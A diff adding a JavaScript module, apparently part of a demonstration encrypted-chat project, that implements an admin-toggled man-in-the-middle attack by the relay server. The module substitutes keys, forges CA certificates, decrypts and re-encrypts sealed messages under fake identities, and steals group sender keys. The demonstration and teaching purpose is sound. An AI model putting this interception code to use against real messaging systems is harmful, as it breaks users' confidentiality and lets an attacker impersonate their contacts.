@@ -0,0 +1,311 @@
+/**
+ * Attaque MITM réelle du relais : substitution de clés
+ *
+ * Activée par l'interrupteur admin, elle fait jouer au serveur le rôle d'un
+ * relais malveillant entre la cible et chaque autre membre de la room :
+ * - dans les fiches envoyées à la cible, les clés (RSA, scellement Curve25519,
+ *   identité, certificat)
+ *   des autres membres sont remplacées par des clés du serveur, et inversement
+ * - les bundles X3DH distribués sont ceux du serveur (SPK signée par SA clé)
+ * - chaque message scellé est ouvert, déchiffré, lu, puis re-chiffré et
+ *   re-scellé sous la fausse identité de l'expéditeur pour le vrai destinataire
+ *
+ * Le serveur étant aussi l'autorité de certification, les certificats forgés
+ * sont valides : seul un client qui compare les safety numbers, ou qui a
+ * épinglé la clé d'identité de son contact, détecte la substitution.
+ */
+
+import { X3DHKeyBundle, X3DHInitiator, X3DHResponder } from '../src/crypto/X3DH.js';
+import { DHRatchet } from '../src/crypto/DHRatchet.js';
+import {
+  negotiateSealedVersion,
+  sealEnvelope,
+  unsealEnvelope,
+  sealMultiRecipientEnvelope,
+  sliceMultiRecipientEnvelope
+} from '../src/crypto/SealedSenderVersions.js';
+import { sodium } from '../src/crypto/sodium.js';
+import { GroupSession } from '../src/crypto/SenderKeys.js';
+import { generateECDHKeyPair, importPublicKey } from '../src/crypto/Primitives.js';
+
+const subtle = globalThis.crypto.subtle;
+
+const FAKE_OPK_COUNT = 20;
+
+const toArr = (buf) => Array.from(new Uint8Array(buf));
+const toBuf = (arr) => new Uint8Array(arr).buffer;
+
+// Même empreinte que celle affichée par le client (SHA-256 du SPKI, blocs de 8 hex)
+async function computeRsaFingerprint(publicKey) {
+  const spki = await subtle.exportKey('spki', publicKey);
+  const hash = new Uint8Array(await subtle.digest('SHA-256', spki));
+  const hex = Array.from(hash).map(b => b.toString(16).padStart(2, '0')).join('');
+  return hex.match(/.{1,8}/g).join(' ');
+}
+
+export class MitmAttack {
+  /**
+   * @param {Object} options
+   * @param {string} options.target - Membre dont tous les échanges pairwise sont interceptés
+   * @param {Function} options.issueCertificate - (userId, identityKeyJWK) => certificat signé par la CA
+   * @param {Function} options.resolveTrustRoot - keyId => JWK de la CA (ouverture des enveloppes)
+   */
+  constructor({ target, issueCertificate, resolveTrustRoot }) {
+    this.target = target;
+    this.issueCertificate = issueCertificate;
+    this.resolveTrustRoot = resolveTrustRoot;
+
+    this.impersonations = new Map(); // username -> Promise<fausse identité>
+    this.sessions = new Map();       // `${usurpé}->${pair}` -> { ratchet, pendingX3DH, acceptedX3DH }
+    this.groupSession = null;        // sender keys volées au passage
+  }
+
+  /**
+   * Le relais s'interpose-t-il entre `viewer` et `subject` ?
+   */
+  intercepts(viewer, subject) {
+    return viewer !== subject && (viewer === this.target || subject === this.target);
+  }
+
+  /**
+   * Fausse identité complète de `username`, générée au premier besoin
+   */
+  impersonate(username) {
+    if (!this.impersonations.has(username)) {
+      this.impersonations.set(username, this.createImpersonation(username));
+    }
+    return this.impersonations.get(username);
+  }
+
+  async createImpersonation(username) {
+    const rsaKeyPair = await subtle.generateKey(
+      { name: 'RSA-OAEP', modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: 'SHA-256' },
+      true,
+      ['encrypt', 'decrypt']
+    );
+    await sodium.initialize();
+    const sealingKeyPair = sodium.generateKeyPairCurve25519();
+    const bundle = await new X3DHKeyBundle().generate(FAKE_OPK_COUNT);
+    const publicBundle = await bundle.exportPublicBundle();
+    const identityKey = publicBundle.identityKey;
+
+    console.log(`🕵️ MITM: fausse identité forgée pour ${username}`);
+    return {
+      rsaPrivateKey: rsaKeyPair.privateKey,
+      publicKey: await subtle.exportKey('jwk', rsaKeyPair.publicKey),
+      publicKeyFingerprint: await computeRsaFingerprint(rsaKeyPair.publicKey),
+      sealingPrivateKey: sealingKeyPair.privateKey,
+      sealingKey: Array.from(sealingKeyPair.publicKey),
+      identityKey,
+      certificate: await this.issueCertificate(username, identityKey),
+      bundle,
+      publicBundle,
+      availableOneTimePreKeys: [...publicBundle.oneTimePreKeys]
+    };
+  }
+
+  /**
+   * Fiche de `user` telle que le relais la présente à `viewer`
+   */
+  async disguiseUser(viewer, user) {
+    if (!user || !this.intercepts(viewer, user.username)) return user;
+
+    const fake = await this.impersonate(user.username);
+    return {
+      ...user,
+      publicKey: fake.publicKey,
+      publicKeyFingerprint: fake.publicKeyFingerprint,
+      sealingKey: user.sealingKey ? fake.sealingKey : null, // mêmes versions annoncées que le vrai membre
+      identityKey: fake.identityKey,
+      certificate: fake.certificate
+    };
+  }
+
+  async disguiseUsers(viewer, users) {
+    return Promise.all(users.map(user => this.disguiseUser(viewer, user)));
+  }
+
+  /**
+   * Bundle X3DH forgé pour `username` (au plus une OPK, retirée du stock)
+   */
+  async takeBundle(username) {
+    const fake = await this.impersonate(username);
+    const opk = fake.availableOneTimePreKeys.shift();
+    return {
+      identityKey: fake.publicBundle.identityKey,
+      signedPreKey: fake.publicBundle.signedPreKey,
+      oneTimePreKeys: opk ? [opk] : []
+    };
+  }
+
+  // Session du relais jouant `impersonated` face au vrai `peer` (les deux sens)
+  session(impersonated, peer) {
+    const key = `${impersonated}->${peer}`;
+    if (!this.sessions.has(key)) {
+      this.sessions.set(key, { ratchet: null, pendingX3DH: null, acceptedX3DH: null });
+    }
+    return this.sessions.get(key);
+  }
+
+  /**
+   * Ouvre un message scellé destiné à la fausse identité de `to`, le lit, puis le
+   * re-scelle pour le vrai `to` sous la fausse identité de l'expéditeur
+   *
+   * Un message chiffré dans une session antérieure à l'attaque reste illisible :
+   * il est seulement re-scellé (le certificat forgé peut encore trahir l'attaque).
+   *
+   * @param {string} to - Destinataire annoncé
+   * @param {Object} sealedMessage - Enveloppe (V1 ou V2) scellée pour les fausses clés de `to`
+   * @param {Object} recipient - Vraie fiche de `to` (clés de scellement réelles)
+   * @param {Function} takeRealBundle - () => vrai bundle X3DH de `to` (consomme une OPK)
+   * @returns {Promise<{sealedMessage: Object, senderId: string, plaintext: string|null}>}
+   */
+  async relaySealed(to, sealedMessage, recipient, takeRealBundle) {
+    const fakeRecipient = await this.impersonate(to);
+    const unsealed = await unsealEnvelope(sealedMessage, {
+      rsaPrivateKey: fakeRecipient.rsaPrivateKey,
+      sealingPrivateKey: fakeRecipient.sealingPrivateKey,
+      resolveTrustRoot: this.resolveTrustRoot
+    });
+    const from = unsealed.senderId;
+    const inner = JSON.parse(new TextDecoder().decode(unsealed.message));
+
+    // Côté victime émettrice : le relais est "to"
+    const inbound = this.session(to, from);
+    const { x3dh } = inner;
+    if (x3dh && inbound.acceptedX3DH !== JSON.stringify(x3dh.ephemeralKey)) {
+      const responder = new X3DHResponder(fakeRecipient.bundle);
+      const sharedSecret = await responder.deriveSharedSecret(
+        x3dh.identityKey,
+        x3dh.ephemeralKey,
+        x3dh.usedOPKId ?? null,
+        x3dh.signedPreKeyId ?? null
+      );
+      inbound.ratchet?.replayProtection.destroy();
+      inbound.ratchet = new DHRatchet(sharedSecret, false, { autoSave: false });
+      await inbound.ratchet.initialize(fakeRecipient.bundle.getSignedPreKeyPair(x3dh.signedPreKeyId ?? null), null);
+      inbound.pendingX3DH = null;
+      inbound.acceptedX3DH = JSON.stringify(x3dh.ephemeralKey);
+    }
+
+    let plaintext = null;
+    let innerBytes = unsealed.message;
+    if (inbound.ratchet) {
+      plaintext = await inbound.ratchet.decrypt({
+        ...inner,
+        ciphertext: toBuf(inner.ciphertext),
+        iv: toBuf(inner.iv),
+        mac: toBuf(inner.mac),
+        nonce: toBuf(inner.nonce)
+      });
+      if (!x3dh) inbound.pendingX3DH = null;
+
+      // Côté victime destinataire : le relais est "from"
+      const outbound = await this.ensureOutboundSession(from, to, takeRealBundle);
+      const encrypted = await outbound.ratchet.encrypt(plaintext);
+      const payload = {
+        ...encrypted,
+        ciphertext: toArr(encrypted.ciphertext),
+        iv: toArr(encrypted.iv),
+        mac: toArr(encrypted.mac),
+        nonce: toArr(encrypted.nonce),
+        x3dh: outbound.pendingX3DH
+      };
+      innerBytes = new TextEncoder().encode(JSON.stringify(payload));
+    }
+
+    // Re-scellé dans la version choisie par l'expéditeur : le relais reste invisible
+    const fakeSender = await this.impersonate(from);
+    const resealed = await sealEnvelope(negotiateSealedVersion(unsealed.version, recipient), {
+      message: innerBytes,
+      certificate: fakeSender.certificate,
+      senderIdentityKey: fakeSender.bundle.identityKeyPair.publicKey,
+      recipient
+    });
+
+    return { sealedMessage: resealed, senderId: from, plaintext };
+  }
+
+  /**
+   * Tranche d'un message de groupe scellé pour la fausse clé de `to` : lue si la
+   * sender key de l'expéditeur a été volée, puis re-scellée pour le vrai `to`
+   * sous la fausse identité de l'expéditeur (le chiffré Sender Keys est inchangé)
+   *
+   * @returns {Promise<{sealedMessage: Object, senderId: string, plaintext: string|null}>}
+   */
+  async relayMultiSealed(to, sealedMessage, recipient) {
+    const fakeRecipient = await this.impersonate(to);
+    const unsealed = await unsealEnvelope(sealedMessage, {
+      sealingPrivateKey: fakeRecipient.sealingPrivateKey,
+      resolveTrustRoot: this.resolveTrustRoot
+    });
+    const from = unsealed.senderId;
+    const plaintext = await this.readGroupMessage(from, JSON.parse(new TextDecoder().decode(unsealed.message)));
+
+    const fakeSender = await this.impersonate(from);
+    const resealed = await sealMultiRecipientEnvelope({
+      message: unsealed.message,
+      certificate: fakeSender.certificate,
+      recipients: [recipient]
+    });
+
+    return { sealedMessage: sliceMultiRecipientEnvelope(resealed, to), senderId: from, plaintext };
+  }
+
+  async ensureOutboundSession(impersonated, peer, takeRealBundle) {
+    const session = this.session(impersonated, peer);
+    if (session.ratchet) return session;
+
+    const bundle = takeRealBundle();
+    if (!bundle) throw new Error(`Aucun bundle X3DH publié pour ${peer}`);
+
+    const fake = await this.impersonate(impersonated);
+    const initiator = new X3DHInitiator(fake.bundle.identityKeyPair);
+    const { sharedSecret, ephemeralPublicKey, usedOPKId } = await initiator.deriveSharedSecret(bundle);
+
+    session.ratchet = new DHRatchet(sharedSecret, true, { autoSave: false });
+    await session.ratchet.initialize(await generateECDHKeyPair(), await importPublicKey(bundle.signedPreKey.publicKey));
+    session.pendingX3DH = {
+      identityKey: fake.identityKey,
+      ephemeralKey: ephemeralPublicKey,
+      signedPreKeyId: bundle.signedPreKey.id,
+      usedOPKId
+    };
+    return session;
+  }
+
+  /**
+   * Mémorise une sender key interceptée pour lire ensuite les messages de groupe
+   */
+  async stealSenderKey(senderId, distribution) {
+    if (!this.groupSession) {
+      this.groupSession = await new GroupSession('relais').initialize();
+    }
+    this.groupSession.processDistributionMessage(senderId, distribution);
+  }
+
+  /**
+   * Déchiffre un message de groupe si la sender key de l'expéditeur a été volée
+   *
+   * @returns {Promise<string|null>}
+   */
+  async readGroupMessage(senderId, groupMessage) {
+    if (!this.groupSession?.hasSenderKey(senderId)) return null;
+    try {
+      return await this.groupSession.decrypt(senderId, groupMessage);
+    } catch (error) {
+      return null;
+    }
+  }
+
+  stop() {
+    for (const { ratchet } of this.sessions.values()) {
+      ratchet?.replayProtection.destroy();
+    }
+    this.sessions.clear();
+    this.impersonations.clear();
+    this.groupSession = null;
+  }
+}
+
+export default MitmAttack;